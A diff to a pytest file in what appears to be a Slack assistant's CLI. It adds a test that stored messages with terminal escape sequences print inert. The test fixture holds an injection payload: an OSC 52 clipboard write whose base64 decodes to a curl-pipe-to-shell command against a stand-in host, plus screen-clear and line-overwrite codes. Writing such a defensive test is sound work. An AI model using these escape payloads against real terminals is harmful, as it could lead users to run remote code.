@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import json
+from datetime import datetime
 from pathlib import Path
 
 import pytest
@@ -13,9 +14,12 @@ from myao2.cli import main
 from myao2.config import load_config
 from myao2.domain.conversation import Channel, ChannelKind, Message
 from myao2.domain.memo import MemoDraft, Origin
+from myao2.domain.memory import Bullet, Memory, Scope, Term
+from myao2.domain.visibility import WORKSPACE
 from myao2.infrastructure.db.conversation_store import SqlConversationStore
 from myao2.infrastructure.db.engine import open_database
 from myao2.infrastructure.db.memo_store import SqlMemoStore
+from myao2.infrastructure.db.memory_store import SqlMemoryStore
 from tests.clocks import ManualClock
 
 @pytest.fixture
@@ -119,3 +123,24 @@ def test_a_search_counts_a_large_backlog_only_so_far(
     monkeypatch.setattr(search_cli, "WAITING_COUNTED", 2)
     assert run(config_path, "search", "味噌") == 0
     assert "2 or more documents wait to be embedded" in capsys.readouterr().err
+
+
+def test_control_characters_from_slack_reach_the_terminal_inert(
+    config_path: Path, capsys: pytest.CaptureFixture[str]
+) -> None:
+    # Slack's text is stored as written: a message (or a note the model made of it) holding escape sequences would
+    # set the clipboard (OSC 52), clear the screen or, with a carriage return, write over what a line showed.
+    hostile = "会議は\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=\x07中止\x1b[2J\rall fine\x9b31m\x7f"
+    engine = open_database(load_config(config_path).memory.sqlalchemy_url)
+    SqlConversationStore(engine).save_message(Message("C1", "1700000100.000100", "U3", hostile, "Mallory"))
+    day = datetime(2023, 11, 15).date()
+    SqlMemoryStore(engine, ManualClock()).save(
+        [Memory(Scope("C1"), Term.LONG, WORKSPACE, (Bullet(1, hostile, day, ("1700000100.000100",)),), label="#general")]
+    )
+    engine.dispose()
+    shown = "会議は␛]52;c;Y3VybCBldmlsLmV4YW1wbGV8c2g=␇中止␛[2J"  # a search's lines: at a CR, the message's next line
+    for command in (["search", "会議は中止", "--messages"], ["memory", "show"], ["memory", "show", "--json"]):
+        assert run(config_path, *command) == 0
+        out = capsys.readouterr().out
+        assert not any(ch in out for ch in "\x1b\x07\r\x9b\x7f"), (command, out)
+        assert shown in out or "--json" in command, (command, out)
